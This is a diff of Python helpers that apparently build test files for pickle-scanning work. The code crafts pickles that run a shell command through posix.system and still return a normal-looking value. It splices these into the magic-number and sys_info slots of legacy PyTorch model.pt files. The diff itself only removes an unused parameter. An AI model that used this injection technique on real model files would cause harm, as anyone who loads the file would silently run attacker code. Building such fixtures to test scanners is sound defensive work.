@@ -65,9 +65,8 @@ def _legacy_pickle_spans(data: bytes) -> list[tuple[int, int]]:
     return spans
 
 
-def _second_of(first: object, second_opcodes: bytes, m: str) -> bytes:
+def _second_of(second_opcodes: bytes, m: str) -> bytes:
     """A pickle evaluating to its second item, after running the payload as the first: `getitem((payload, x), 1)`."""
-    del first
     payload = call(glob("posix", "system"), s(shell(m)))
     return P2 + call(glob("_operator", "getitem"), payload + second_opcodes + b"\x86", b"K\x01") + b"."
 
@@ -88,7 +87,7 @@ def legacy_magic_slot(f: Path, m: str) -> Path:
 
     data = _legacy({"w": torch.ones(2)})
     (start, end), *_ = _legacy_pickle_spans(data)
-    magic = _second_of(None, lit(LEGACY_MAGIC), m)
+    magic = _second_of(lit(LEGACY_MAGIC), m)
     return put(f, "model.pt", data[:start] + magic + data[end:])
 
 
@@ -99,7 +98,7 @@ def legacy_sys_info_slot(f: Path, m: str) -> Path:
     spans = _legacy_pickle_spans(data)
     start, end = spans[2]
     info = pickle.loads(data[start:end])
-    return put(f, "model.pt", data[:start] + _second_of(None, lit(info), m) + data[end:])
+    return put(f, "model.pt", data[:start] + _second_of(lit(info), m) + data[end:])
 
 
 def legacy_tar_storages(f: Path, m: str) -> Path:
